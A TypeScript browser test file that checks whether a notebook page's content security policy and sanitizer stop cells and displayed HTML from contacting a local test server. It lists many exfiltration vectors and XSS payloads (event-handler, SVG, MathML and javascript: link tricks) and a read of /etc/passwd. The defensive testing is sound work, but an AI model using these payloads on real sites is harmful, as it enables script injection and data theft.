import { createServer, type Server } from 'node:http';
import { readFileSync, writeFileSync } from 'node:fs';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { describeInBrowser } from '../../browser.ts';
import { notebookOf } from '../notebookOf.ts';
import { LivePage, pageOf } from './LivePage.ts';

/** What a cell could try to reach `at`, an address. */
const fromCode: Readonly<Record<string, (at: string) => string>> = {
  fetch: at => `await fetch('${at}', { mode: 'no-cors' })`,
  'fetch with keepalive': at =>
    `await fetch('${at}', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`,
  XMLHttpRequest: at =>
    `const x = new XMLHttpRequest(); x.open('GET', '${at}'); x.send(); await new Promise(r => x.onloadend = r)`,
  'synchronous XMLHttpRequest': at =>
    `const x = new XMLHttpRequest(); x.open('GET', '${at}', false); x.send()`,
  WebSocket: at =>
    `const w = new WebSocket('${at.replace('http', 'ws')}'); await new Promise(r => w.onerror = w.onopen = r)`,
  EventSource: at => `const e = new EventSource('${at}'); await new Promise(r => e.onerror = e.onopen = r)`,
  WebTransport: at => `await new WebTransport('${at.replace('http', 'https')}').ready`,
  importScripts: at => `importScripts('${at}')`,
  'import()': at => `await (0, eval)("import('${at}')")`,
  'import() in data': at =>
    `importScripts('data:text/javascript,' + encodeURIComponent("import('${at}').catch(() => {})"))`,
  'nested worker': at => `const w = new Worker('${at}'); await new Promise(r => w.onerror = r)`,
  'nested blob worker': at =>
    `new Worker(URL.createObjectURL(new Blob(["fetch('${at}', {mode: 'no-cors'})"])))`,
  RTCPeerConnection: at =>
    `const p = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${at.slice(7)}' }] }); p.createDataChannel('x'); await p.setLocalDescription()`,
  sendBeacon: at => `navigator.sendBeacon('${at}', 'x')`,
  FontFace: at => `await new FontFace('f', 'url(${at})').load()`,
  'cache.add': at => `await (await caches.open('c')).add('${at}')`,
  serviceWorker: at => `await navigator.serviceWorker.register('${at}')`,
  'location of the worker': at => `self.location = '${at}'; self.location.href = '${at}'`,
  'a file': () => `const r = await fetch('file:///etc/passwd'); console.log(await r.text())`,
};

/** What HTML that a cell shows could try. */
const fromHtml: Readonly<Record<string, (at: string) => string>> = {
  image: at => `<img src="${at}"><img srcset="${at} 1x"><picture><source srcset="${at}"></picture>`,
  script: at => `<script src="${at}"></script><script>fetch('${at}')</script>`,
  handler: at =>
    `<img src=x onerror="location='${at}'"><svg onload="location='${at}'"></svg><details open ontoggle="location='${at}'">`,
  style: at =>
    `<style>@import '${at}'; body { background: url(${at}) }</style><p style="background: url(${at})">x</p>`,
  'meta refresh': at => `<meta http-equiv="refresh" content="0; url=${at}">`,
  base: at => `<base href="${at}"><a href="x">x</a>`,
  link: at =>
    `<link rel="stylesheet" href="${at}"><link rel="prefetch" href="${at}"><link rel="preconnect" href="${at}"><link rel="dns-prefetch" href="${at}">`,
  iframe: at =>
    `<iframe src="${at}"></iframe><iframe srcdoc="<script>parent.location='${at}'</script>"></iframe>`,
  object: at => `<object data="${at}"></object><embed src="${at}">`,
  form: at =>
    `<form action="${at}" id="f"><input name="a" value="b" autofocus onfocus="this.form.submit()"><button>go</button></form>`,
  media: at => `<video src="${at}" autoplay poster="${at}"></video><audio src="${at}" autoplay></audio>`,
  svg: at => `<svg><image href="${at}"/><use href="${at}#a"/><script>location='${at}'</script></svg>`,
  mathml: at =>
    `<math><mtext><table><mglyph><style><img src=x onerror="location='${at}'"></style></mglyph></table></mtext></math>`,
  'javascript link': at => `<a href="javascript:location='${at}'" id="j">x</a>`,
  'data link': at => `<a href="data:text/html,<script>location='${at}'</script>">x</a>`,
};

describeInBrowser('nothing leaves a page', browser => {
  let server: Server;
  const reached: string[] = [];
  let live: LivePage;
  let path: string;
  const at = (name: string) =>
    `http://127.0.0.1:${(server.address() as AddressInfo).port}/${encodeURIComponent(name)}`;
  beforeAll(async () => {
    server = createServer((request, response) => {
      reached.push(request.url!);
      response.setHeader('access-control-allow-origin', '*').end();
    });
    server.on('upgrade', (request, socket) => {
      reached.push(request.url!);
      socket.destroy();
    });
    await new Promise<void>(resolve => void server.listen(0, '127.0.0.1', resolve));
    path = await pageOf(notebookOf({ title: 'md:# Attacks', cell: '0' }), 'attacks');
    live = await LivePage.open(browser(), path);
  }, 300_000);
  afterAll(() => server?.close());

  test.each(Object.keys(fromCode))('from code: %s', async name => {
    const source = `await Promise.race([(async () => {\n${fromCode[name]!(at(name))}\n})().catch(e => console.log(String(e))), new Promise(r => setTimeout(r, 700))]);\nawait new Promise(r => setTimeout(r, 100));`;
    const { text } = await live.run('cell', source);
    expect(text).not.toContain('root:');
    expect(reached).toEqual([]);
    expect(live.page.url()).toMatch(/^file:/);
  });

  test.each(Object.keys(fromHtml))('from HTML: %s', async name => {
    const html = JSON.stringify(fromHtml[name]!(at(name)));
    const source = `import { display } from 'dropout-lab/notebook';\ndisplay({ 'text/html': ${html} + '<p>shown</p>', 'text/plain': '' });\ndisplay({ 'text/markdown': ${html} + '\\n\\nsaid', 'text/plain': '' });`;
    const { text } = await live.run('cell', source);
    expect(text).toContain('said');
    await live.page.waitForTimeout(300);
    expect(reached).toEqual([]);
    expect(live.page.url()).toMatch(/^file:/);
    expect(
      await live
        .cell('cell')
        .locator(
          '.outputs [src]:not([src^="data:"]), .outputs [onload], .outputs style, .outputs meta, .outputs form',
        )
        .count(),
    ).toBe(0);
  });

  test('these tests see what leaves a page without the policy and without a sanitizer', async () => {
    const html = readFileSync(path, 'utf8').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
    const open = path.replace('.html', '-open.html');
    writeFileSync(open, html);
    const unprotected = await LivePage.open(browser(), open);
    await unprotected.run('cell', `await ${fromCode.fetch!(at('control'))}`.replace('await await', 'await'));
    expect(reached).toContain('/control');
    reached.length = 0;
    await unprotected.close();
  });
});
